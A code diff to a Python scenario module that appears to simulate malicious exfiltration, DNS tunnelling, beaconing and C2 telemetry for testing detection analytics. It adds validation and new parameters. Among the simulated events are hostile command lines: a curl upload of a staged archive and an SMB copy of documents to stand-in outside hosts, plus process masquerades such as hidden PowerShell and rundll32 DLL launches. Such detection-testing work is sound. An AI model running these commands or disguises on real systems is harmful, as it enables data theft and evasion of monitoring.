@@ -13,16 +13,25 @@ from collections.abc import Sequence
 from dataclasses import dataclass
 
 from harness.analytics import AnalyticId, TechniqueId, analytic_id, technique_id
+from harness.errors import InvalidParameterError
 from harness.events import NS_PER_S, AnomalyKind, AppProtocol, Transport
 from harness.fields import Field
 from harness.truth import ActorKind
-from scenarios._util import external_ip
-from scenarios.encodings import TOOL_QTYPES, TunnelEncoding, chunk_stream, tool_chunk_size
+from scenarios._util import external_ip, random_text
+from scenarios.encodings import (
+    TOOL_QTYPES,
+    TunnelEncoding,
+    capacity,
+    chunk_stream,
+    tool_chunk_size,
+)
 from scenarios.world import Actor, Host, Proc, World
 
 __all__ = [
+    "DISGUISES",
     "Disguise",
     "archive_then_upload",
+    "disguise",
     "dns_tunnel",
     "external_smb",
     "extraneous_packets",
@@ -51,6 +60,49 @@ class Disguise:
     signer: str | None = None
 
 
+#: Process identities a malicious actor can take (the ``disguise`` knob of every scenario).
+DISGUISES = (
+    "default",
+    "temp-tool",
+    "browser-name",
+    "system-name",
+    "signed-lolbin",
+    "powershell",
+)
+
+
+def disguise(preset: str, host: Host, default: Disguise, tool: str) -> Disguise:
+    """The process identity ``preset`` on ``host``: ``default`` keeps the actor's own;
+    ``temp-tool`` an unsigned ``tool`` in the user's Temp folder; ``browser-name`` an unsigned
+    ``chrome.exe`` in ``C:\\Users\\Public``; ``system-name`` an unsigned ``svchost.exe`` in
+    ``C:\\ProgramData``; ``signed-lolbin`` the signed ``rundll32.exe`` running a DLL from
+    ``C:\\Users\\Public``; ``powershell`` a hidden signed PowerShell running a script."""
+    if preset == "default":
+        return default
+    if preset == "temp-tool":
+        image = rf"C:\Users\{host.user}\AppData\Local\Temp\{tool}"
+        return Disguise(image=image, command_line=image)
+    if preset == "browser-name":
+        image = r"C:\Users\Public\chrome.exe"
+        return Disguise(image=image, command_line=f'"{image}" --type=renderer --no-sandbox')
+    if preset == "system-name":
+        image = r"C:\ProgramData\Microsoft\Windows\svchost.exe"
+        return Disguise(image=image, command_line=f"{image} -k netsvcs")
+    if preset == "signed-lolbin":
+        return Disguise(
+            image=r"C:\Windows\System32\rundll32.exe",
+            command_line=r"rundll32.exe C:\Users\Public\msvcp.dll,Run",
+            signer="Microsoft Windows",
+        )
+    if preset == "powershell":
+        return Disguise(
+            image=r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
+            command_line=r"powershell.exe -nop -w hidden -f C:\Users\Public\u.ps1",
+            signer="Microsoft Windows",
+        )
+    raise InvalidParameterError("disguise", preset, "one of " + ", ".join(DISGUISES))
+
+
 def _payload(rng: random.Random, n: int) -> bytes:
     return rng.randbytes(n)
 
@@ -73,6 +125,22 @@ def _read_files(world: World, actor: Actor, proc: Proc, t: int, count: int) -> i
     return t + count * 20_000_000 + NS_PER_S
 
 
+def _positive(name: str, value: float) -> None:
+    if not value > 0:
+        raise InvalidParameterError(name, value, "a positive number")
+
+
+def _port(port: int) -> None:
+    if not 1 <= port <= 65_535:
+        raise InvalidParameterError("port", port, "a port number in [1, 65535]")
+
+
+def _interval_and_jitter(interval_s: float, jitter: float) -> None:
+    _positive("interval_s", interval_s)
+    if not 0 <= jitter < 1:
+        raise InvalidParameterError("jitter", jitter, "a fraction in [0, 1)")
+
+
 def _gap(rng: random.Random, interval_s: float, jitter: float) -> int:
     return max(1, int(interval_s * (1 + rng.uniform(-jitter, jitter)) * NS_PER_S))
 
@@ -92,14 +160,19 @@ def https_upload(
     jitter: float,
     dst_name: str,
     files_read: int = 0,
+    port: int = 443,
+    padding_bytes: int = 0,
     techniques: Sequence[str] = ("T1041", "T1071.001"),
     expected: Sequence[AnalyticId] = (AN0144, AN1225),
 ) -> None:
     """Exfiltration over HTTPS by one process: optionally read ``files_read`` documents first,
-    then upload ``total_bytes`` in POSTs of ``chunk_bytes`` every ``interval_s`` seconds
-    (± ``jitter`` as a fraction), each on a fresh TLS connection with a small response."""
-    if chunk_bytes < 1 or total_bytes < 1 or interval_s <= 0 or not 0 <= jitter < 1:
-        raise ValueError("https_upload needs positive sizes and interval and 0 <= jitter < 1")
+    then upload ``total_bytes`` in POSTs of ``chunk_bytes`` (plus ``padding_bytes`` of junk)
+    every ``interval_s`` seconds (± ``jitter`` as a fraction), each on a fresh TLS connection to
+    ``port`` with a small response. Stops at the end of the recording window."""
+    _positive("chunk_bytes", chunk_bytes)
+    _positive("total_bytes", total_bytes)
+    _interval_and_jitter(interval_s, jitter)
+    _port(port)
     expect = list(expected)
     if files_read and AN0988 not in expect:
         expect.append(AN0988)
@@ -109,16 +182,16 @@ def https_upload(
     proc = _start(world, actor, host, start_ns, who)
     t = _read_files(world, actor, proc, start_ns + NS_PER_S, files_read)
     world.dns(actor, proc, t, dst_name, answers=(external_ip(dst_name),))
-    sent = 0
-    while sent < total_bytes:
+    sent, end = 0, world.env.end_ns
+    while sent < total_bytes and t < end:
         size = min(chunk_bytes, total_bytes - sent)
         world.flow(
             actor,
             proc,
             t,
             dst_ip=external_ip(dst_name),
-            dst_port=443,
-            bytes_out=size + 600,
+            dst_port=port,
+            bytes_out=size + 600 + padding_bytes,
             bytes_in=900 + rng.randint(0, 300),
             duration_ns=max(NS_PER_S, size // 1_500_000 * NS_PER_S),
             server_name=dst_name,
@@ -157,10 +230,19 @@ def dns_tunnel(
     ``via_api`` sends through the operating system's resolver (Sysmon 22 sees the process); with
     ``via_api=False`` the tool builds its own packets, to the internal resolver or, with
     ``direct_resolver``, straight to an outside server. ``ping_interval_s`` adds iodine-style
-    keep-alive queries. Returns the payload, so a test can decode it back from the names.
+    keep-alive queries. ``chunk_bytes`` is capped at what one name can hold. Stops at the end
+    of the recording window; returns the payload bytes that went out (also noted in
+    :attr:`World.tunnel_payloads`), so a test can decode them back from the names.
     """
-    if total_bytes < 1 or queries_per_s <= 0 or not 0 <= jitter < 1:
-        raise ValueError("dns_tunnel needs total_bytes >= 1, queries_per_s > 0, 0 <= jitter < 1")
+    _positive("total_bytes", total_bytes)
+    _positive("queries_per_s", queries_per_s)
+    _interval_and_jitter(1 / queries_per_s, jitter)
+    if ping_interval_s and ping_interval_s < 0.001:
+        raise InvalidParameterError("ping_interval_s", ping_interval_s, "0 (no pings) or >= 0.001")
+    if qtype is not None and qtype not in TOOL_QTYPES[encoding]:
+        raise InvalidParameterError(
+            "qtype", qtype, f"a record type {encoding} uses: " + ", ".join(TOOL_QTYPES[encoding])
+        )
     expect = [AN1225]
     if files_read:
         expect.append(AN0988)
@@ -175,14 +257,18 @@ def dns_tunnel(
         data = text.encode()[:total_bytes]
     else:
         data = _payload(rng, total_bytes)
-    size = chunk_bytes or tool_chunk_size(encoding, domain)
+    size = min(chunk_bytes, capacity(encoding, domain)) if chunk_bytes else None
+    size = size or tool_chunk_size(encoding, domain)
     names = chunk_stream(
         data, encoding=encoding, domain=domain, session=rng.randrange(16), chunk_size=size
     )
     rtype = qtype or TOOL_QTYPES[encoding][0]
     resolver = direct_resolver or world.env.resolver_ip
     next_ping = t + int(ping_interval_s * NS_PER_S) if ping_interval_s else None
+    sent, pings, end = 0, 0, world.env.end_ns
     for name in names:
+        if t >= end:
+            break
         while next_ping is not None and next_ping < t:
             ping = f"p{rng.randrange(16**6):06x}.{domain}"
             world.dns(
@@ -196,7 +282,8 @@ def dns_tunnel(
                 resolver_ip=resolver,
             )
             next_ping += int(ping_interval_s * NS_PER_S)
-        answer = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(12))
+            pings += 1
+        answer = random_text(rng, "abcdefghijklmnopqrstuvwxyz0123456789", 12)
         world.dns(
             actor,
             proc,
@@ -207,8 +294,11 @@ def dns_tunnel(
             via_api=via_api,
             resolver_ip=resolver,
         )
+        sent += 1
         t += _gap(rng, 1 / queries_per_s, jitter)
-    return data
+    carried = data[: sent * size]
+    world.note_tunnel_payload(actor, encoding.value, domain, carried, pings=pings)
+    return carried
 
 
 def quiet_process_exfil(
@@ -228,11 +318,21 @@ def quiet_process_exfil(
     files_read: int = 120,
     port: int = 443,
     domain: str = "cdn-sync.example",
+    dns_queries_per_s: float = 5.0,
 ) -> None:
     """A normally quiet process (a text editor, rundll32) that reads many files and then sends
     data out: over HTTPS (``channel='https'``), DNS (``'dns'``, raw socket to the resolver) or a
     custom TCP or UDP port (``'tcp'``/``'udp'`` on ``port``). AN0988's core case; without
-    ``files_read`` it is no longer "following file access" and AN0988 is not expected."""
+    ``files_read`` it is no longer "following file access" and AN0988 is not expected. The DNS
+    channel sends ``dns_queries_per_s`` dnscat2-style TXT queries; the others send
+    ``chunk_bytes`` every ``interval_s``. Stops at the end of the recording window."""
+    if channel not in ("https", "dns", "tcp", "udp"):
+        raise InvalidParameterError("channel", channel, "one of https, dns, tcp, udp")
+    _positive("total_bytes", total_bytes)
+    _positive("chunk_bytes", chunk_bytes)
+    _interval_and_jitter(interval_s, jitter)
+    _positive("dns_queries_per_s", dns_queries_per_s)
+    _port(port)
     expect: list[AnalyticId] = [AN1225]
     if files_read:
         expect.insert(0, AN0988)
@@ -251,19 +351,27 @@ def quiet_process_exfil(
     )
     proc = _start(world, actor, host, start_ns, who)
     t = _read_files(world, actor, proc, start_ns + NS_PER_S, files_read)
+    end = world.env.end_ns
     if channel == "dns":
         data = _payload(rng, total_bytes)
+        encoding = TunnelEncoding.DNSCAT2_HEX
+        sent = 0
         for name in chunk_stream(
-            data, encoding=TunnelEncoding.DNSCAT2_HEX, domain=domain, session=rng.randrange(65_536)
+            data, encoding=encoding, domain=domain, session=rng.randrange(65_536)
         ):
+            if t >= end:
+                break
             world.dns(actor, proc, t, name, qtype="TXT", answers=("00",), via_api=False)
-            t += _gap(rng, 0.2, jitter)
+            sent += 1
+            t += _gap(rng, 1 / dns_queries_per_s, jitter)
+        size = capacity(encoding, domain)
+        world.note_tunnel_payload(actor, encoding.value, domain, data[: sent * size])
         return
     sent = 0
     dst = external_ip(domain)
     transport = Transport.UDP if channel == "udp" else Transport.TCP
     app = AppProtocol.TLS if channel == "https" else AppProtocol.UNKNOWN
-    while sent < total_bytes:
+    while sent < total_bytes and t < end:
         size = min(chunk_bytes, total_bytes - sent)
         world.flow(
             actor,
@@ -293,9 +401,17 @@ def archive_then_upload(
     total_bytes: int = 60_000_000,
     chunk_bytes: int = 5_000_000,
     dst_name: str = "transfer.filedrop.example",
+    interval_s: float = 3.0,
+    jitter: float = 0.3,
+    port: int = 443,
 ) -> None:
-    """Collection and staging, then exfiltration: 7-Zip reads documents into an archive in
-    ``C:\\ProgramData``, then ``curl.exe`` uploads the archive over HTTPS in parts."""
+    """Collection and staging, then exfiltration: 7-Zip reads ``files_read`` documents into an
+    archive in ``C:\\ProgramData``, then ``curl.exe`` uploads the archive over HTTPS to
+    ``port`` in parts of ``chunk_bytes`` every ``interval_s`` (± ``jitter``)."""
+    _positive("total_bytes", total_bytes)
+    _positive("chunk_bytes", chunk_bytes)
+    _interval_and_jitter(interval_s, jitter)
+    _port(port)
     actor = world.actor(
         actor_id,
         ActorKind.MALICIOUS,
@@ -318,27 +434,29 @@ def archive_then_upload(
         host,
         t,
         r"C:\Windows\System32\curl.exe",
-        rf"curl.exe -k -T {archive} https://{dst_name}/u/",
+        rf"curl.exe -k -T {archive} https://{dst_name}/u/"
+        if port == 443
+        else rf"curl.exe -k -T {archive} https://{dst_name}:{port}/u/",
         signer="Microsoft Windows",
     )
     world.read_file(actor, curl, t + NS_PER_S, archive, total_bytes)
     world.dns(actor, curl, t + NS_PER_S, dst_name, answers=(external_ip(dst_name),))
-    sent, t = 0, t + 2 * NS_PER_S
-    while sent < total_bytes:
+    sent, t, end = 0, t + 2 * NS_PER_S, world.env.end_ns
+    while sent < total_bytes and t < end:
         size = min(chunk_bytes, total_bytes - sent)
         world.flow(
             actor,
             curl,
             t,
             dst_ip=external_ip(dst_name),
-            dst_port=443,
+            dst_port=port,
             bytes_out=size,
             bytes_in=700,
             duration_ns=max(NS_PER_S, size // 3_000_000 * NS_PER_S),
             server_name=dst_name,
         )
         sent += size
-        t += _gap(rng, 3.0, 0.3)
+        t += _gap(rng, interval_s, jitter)
 
 
 def padded_beacon(
@@ -365,6 +483,15 @@ def padded_beacon(
     request of ``base_bytes`` plus ``padding_bytes`` of padding (the same size every time, or
     uniform up to twice that with ``random_padding``), answered by a small response, for
     ``duration_s``. High send/receive ratio and near-constant request sizes (T1001.001)."""
+    _interval_and_jitter(interval_s, jitter)
+    _positive("duration_s", duration_s)
+    _port(port)
+    if base_bytes < 1 or padding_bytes < 0 or response_bytes < 0:
+        raise InvalidParameterError(
+            "base_bytes/padding_bytes/response_bytes",
+            (base_bytes, padding_bytes, response_bytes),
+            "base_bytes >= 1, padding and response bytes >= 0",
+        )
     actor = world.actor(
         actor_id,
         ActorKind.MALICIOUS,
@@ -374,7 +501,8 @@ def padded_beacon(
     )
     proc = _start(world, actor, host, start_ns, who)
     world.dns(actor, proc, start_ns + NS_PER_S, domain, answers=(external_ip(domain),))
-    t, end = start_ns + 2 * NS_PER_S, start_ns + int(duration_s * NS_PER_S)
+    t = start_ns + 2 * NS_PER_S
+    end = min(start_ns + int(duration_s * NS_PER_S), world.env.end_ns)
     while t < end:
         pad = rng.randint(0, 2 * padding_bytes) if random_padding else padding_bytes
         world.flow(
@@ -408,20 +536,30 @@ def raw_exfil(
     interval_s: float = 10.0,
     jitter: float = 0.3,
     dst_name: str = "vps-7.hosting.example",
+    files_read: int = 0,
 ) -> None:
     """Exfiltration over a raw TCP or UDP channel on a custom port, with no application
-    protocol a sensor can name (T1048, T1571)."""
+    protocol a sensor can name (T1048, T1571); with ``files_read`` the process reads documents
+    first (and AN0988 is expected too)."""
+    _positive("total_bytes", total_bytes)
+    _positive("chunk_bytes", chunk_bytes)
+    _interval_and_jitter(interval_s, jitter)
+    _port(port)
+    expect = [AN0030, AN1225] + ([AN0988] if files_read else [])
     actor = world.actor(
         actor_id,
         ActorKind.MALICIOUS,
         description,
         techniques=_t("T1048", "T1571", "T1095"),
-        expected=(AN0030, AN1225),
+        expected=expect,
     )
     proc = _start(world, actor, host, start_ns, who)
     dst = external_ip(dst_name)
-    t, sent = start_ns + NS_PER_S, 0
-    while sent < total_bytes:
+    t = start_ns + NS_PER_S
+    if files_read:
+        t = _read_files(world, actor, proc, t, files_read)
+    sent, end = 0, world.env.end_ns
+    while sent < total_bytes and t < end:
         size = min(chunk_bytes, total_bytes - sent)
         world.flow(
             actor,
@@ -448,9 +586,17 @@ def external_smb(
     start_ns: int,
     total_bytes: int = 30_000_000,
     dst_name: str = "share.fileshare-cdn.example",
+    files_read: int = 40,
+    chunk_bytes: int = 3_000_000,
+    interval_s: float = 4.0,
+    jitter: float = 0.3,
 ) -> None:
-    """A script copies files to an SMB share on an outside address (TCP/445 leaving the
-    network): T1048, T1071.002."""
+    """A script reads ``files_read`` documents and copies them to an SMB share on an outside
+    address (TCP/445 leaving the network) in writes of ``chunk_bytes`` every ``interval_s``:
+    T1048, T1071.002."""
+    _positive("total_bytes", total_bytes)
+    _positive("chunk_bytes", chunk_bytes)
+    _interval_and_jitter(interval_s, jitter)
     actor = world.actor(
         actor_id,
         ActorKind.MALICIOUS,
@@ -466,11 +612,11 @@ def external_smb(
         rf"cmd.exe /c copy C:\Users\{host.user}\Documents\*.xlsx \\{dst_name}\drop\ ",
         signer="Microsoft Windows",
     )
-    t = _read_files(world, actor, proc, start_ns + NS_PER_S, 40)
+    t = _read_files(world, actor, proc, start_ns + NS_PER_S, files_read)
     dst = external_ip(dst_name)
-    sent = 0
-    while sent < total_bytes:
-        size = min(3_000_000, total_bytes - sent)
+    sent, end = 0, world.env.end_ns
+    while sent < total_bytes and t < end:
+        size = min(chunk_bytes, total_bytes - sent)
         world.flow(
             actor,
             proc,
@@ -483,7 +629,7 @@ def external_smb(
             app=AppProtocol.SMB,
         )
         sent += size
-        t += _gap(rng, 4.0, 0.3)
+        t += _gap(rng, interval_s, jitter)
 
 
 _MISUSE = {
@@ -492,6 +638,14 @@ _MISUSE = {
     "tls-on-53": (AppProtocol.TLS, 53, Transport.TCP, ("T1573", "T1571")),
     "tls-on-odd-port": (AppProtocol.TLS, 8531, Transport.TCP, ("T1573", "T1571")),
     "dns-on-odd-port": (AppProtocol.DNS, 5353, Transport.UDP, ("T1071.004", "T1571")),
+}
+
+
+#: Ports where each protocol belongs: on these it is not misuse.
+_NATIVE_PORTS: dict[AppProtocol, tuple[int, ...]] = {
+    AppProtocol.HTTP: (80, 8000, 8008, 8080),
+    AppProtocol.TLS: (443, 465, 636, 853, 993, 995, 8443),
+    AppProtocol.DNS: (53,),
 }
 
 
@@ -508,22 +662,41 @@ def protocol_misuse(
     interval_s: float = 120.0,
     jitter: float = 0.3,
     dst_name: str = "gw.relay-node.example",
+    port: int | None = None,
 ) -> None:
     """C2 over a protocol on a port that belongs to another: plain HTTP on 443, TLS on 53 or on
     an odd port, DNS on a non-standard port. Packet inspection names the real protocol; the port
-    says otherwise (T1571)."""
-    app, port, transport, techniques = _MISUSE[variant]
+    says otherwise (T1571). ``port`` replaces the variant's port (it must still be one that
+    does not belong to the protocol)."""
+    if variant not in _MISUSE:
+        raise InvalidParameterError("variant", variant, "one of " + ", ".join(_MISUSE))
+    app, default_port, transport, techniques = _MISUSE[variant]
+    if port is None:
+        port = default_port
+    _port(port)
+    if port in _NATIVE_PORTS[app]:
+        raise InvalidParameterError(
+            "port", port, f"a port that is not {app.value}'s own (not {_NATIVE_PORTS[app]})"
+        )
+    if sessions < 1:
+        raise InvalidParameterError("sessions", sessions, "an integer >= 1")
+    _interval_and_jitter(interval_s, jitter)
+    what = variant.replace("-", " ")
+    if port != default_port:
+        what = f"{app.value} on {transport.value} port {port}"
     actor = world.actor(
         actor_id,
         ActorKind.MALICIOUS,
-        f"C2 with {variant.replace('-', ' ')}",
+        f"C2 with {what}",
         techniques=_t(*techniques),
         expected=(AN1962, AN1225),
     )
     proc = _start(world, actor, host, start_ns, who)
     dst = external_ip(dst_name)
-    t = start_ns + NS_PER_S
+    t, end = start_ns + NS_PER_S, world.env.end_ns
     for _ in range(sessions):
+        if t >= end:
+            break
         sport = 49_152 + rng.randrange(16_384)
         world.flow(
             actor,
@@ -573,6 +746,9 @@ def extraneous_packets(
     """Packets that belong to no proper flow: data with no handshake (port-knock style
     signalling), segments outside the TCP window, injected resets, malformed DNS, and first data
     from the wrong side. Only packet inspection sees them (T1205, T1095)."""
+    if count < 1 or not kinds:
+        raise InvalidParameterError("count/kinds", (count, tuple(kinds)), "count >= 1, kinds")
+    _positive("interval_s", interval_s)
     actor = world.actor(
         actor_id,
         ActorKind.MALICIOUS,
@@ -582,8 +758,10 @@ def extraneous_packets(
         observable_with=(Field.PACKETS,),
     )
     src = external_ip(src_name)
-    t = start_ns
+    t, end = start_ns, world.env.end_ns
     for i in range(count):
+        if t >= end:
+            break
         kind = kinds[i % len(kinds)]
         dns = kind is AnomalyKind.MALFORMED_DNS
         world.anomaly(
@@ -609,45 +787,67 @@ def suspicious_first_seen(
     start_ns: int,
     connections: int = 12,
     interval_s: float = 300.0,
+    jitter: float = 0.4,
     dst_name: str = "update-check.cdn-edge.example",
+    port: int = 443,
+    office_parent: bool = True,
 ) -> None:
-    """A never-seen executable launched by Office with an encoded PowerShell-style command line
-    opens a handful of small HTTPS connections: little volume, but everything about the process
-    is new (AN1962's first-seen process)."""
+    """A never-seen executable launched by Office (``office_parent``; otherwise by the user's
+    Explorer shell) with an encoded PowerShell-style command line opens ``connections`` small
+    HTTPS connections to ``port``: little volume, but everything about the process is new
+    (AN1962's first-seen process)."""
+    if connections < 1:
+        raise InvalidParameterError("connections", connections, "an integer >= 1")
+    _interval_and_jitter(interval_s, jitter)
+    _port(port)
     actor = world.actor(
         actor_id,
         ActorKind.MALICIOUS,
-        "First-seen process with an encoded command line, spawned by Word, calls out",
+        "First-seen process with an encoded command line, spawned by "
+        + ("Word" if office_parent else "Explorer")
+        + ", calls out",
         techniques=_t("T1204.002", "T1071.001", "T1027"),
         expected=(AN1962,),
         observable_with=(Field.PROCESS, Field.FLOW_PROCESS),
     )
-    word = world.spawn(
-        actor,
-        host,
-        start_ns,
-        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
-        r'"WINWORD.EXE" /n "C:\Users\Public\invoice.docm"',
-        signer="Microsoft Corporation",
-    )
+    if office_parent:
+        parent = world.spawn(
+            actor,
+            host,
+            start_ns,
+            r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
+            r'"WINWORD.EXE" /n "C:\Users\Public\invoice.docm"',
+            signer="Microsoft Corporation",
+        )
+    else:
+        parent = world.spawn(
+            actor,
+            host,
+            start_ns,
+            r"C:\Windows\explorer.exe",
+            r"C:\Windows\Explorer.EXE",
+            signer="Microsoft Windows",
+        )
     image = rf"C:\Users\{host.user}\AppData\Roaming\Microsoft\Windows\Templates\tmpl32.exe"
     enc = "".join(
         rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/")
         for _ in range(120)
     )
     proc = world.spawn(
-        actor, host, start_ns + 3 * NS_PER_S, image, f"{image} -e {enc}", parent=word
+        actor, host, start_ns + 3 * NS_PER_S, image, f"{image} -e {enc}", parent=parent
     )
-    t = start_ns + 5 * NS_PER_S
+    t, end = start_ns + 5 * NS_PER_S, world.env.end_ns
     for _ in range(connections):
+        if t >= end:
+            break
         world.flow(
             actor,
             proc,
             t,
             dst_ip=external_ip(dst_name),
-            dst_port=443,
+            dst_port=port,
             bytes_out=rng.randint(600, 2_000),
             bytes_in=rng.randint(1_000, 9_000),
             server_name=dst_name,
         )
-        t += _gap(rng, interval_s, 0.4)
+        t += _gap(rng, interval_s, jitter)
